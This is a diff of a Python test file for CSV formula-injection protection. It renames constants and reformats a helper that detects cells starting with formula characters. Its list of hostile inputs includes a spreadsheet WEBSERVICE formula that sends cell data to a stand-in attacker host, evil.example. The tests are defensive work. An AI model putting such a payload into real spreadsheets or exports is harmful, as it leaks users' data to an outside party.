@@ -14,8 +14,8 @@ from hypothesis import strategies as st
 from api.presentation.spreadsheet_csv import JsonText, csv_line
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
-DROPPED = ' \t\r\n\xa0\u200b\ufeff"'
-HOSTILE = [
+IGNORED_BEFORE_FORMULA = ' \t\r\n\xa0\u200b\ufeff"'
+HOSTILE_TEXTS = [
     'Mozilla/5.0;=WEBSERVICE("https://evil.example/"&A1)',
     '"=1+1',
     'x;"=1+1',
@@ -50,11 +50,13 @@ def cells(line: bytes, separator: str) -> list[str]:
 
 def has_formula(line: bytes) -> bool:
     return any(
-        cell.lstrip(DROPPED).startswith(FORMULA_STARTS) for separator in ";,\t|" for cell in cells(line, separator)
+        cell.lstrip(IGNORED_BEFORE_FORMULA).startswith(FORMULA_STARTS)
+        for separator in ";,\t|"
+        for cell in cells(line, separator)
     )
 
 
-@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
+@pytest.mark.parametrize("text", HOSTILE_TEXTS, ids=ascii)
 def test_hostile_text_is_no_formula(text: str) -> None:
     """This holds at any place in the line, and inside JSON."""
     for values in [
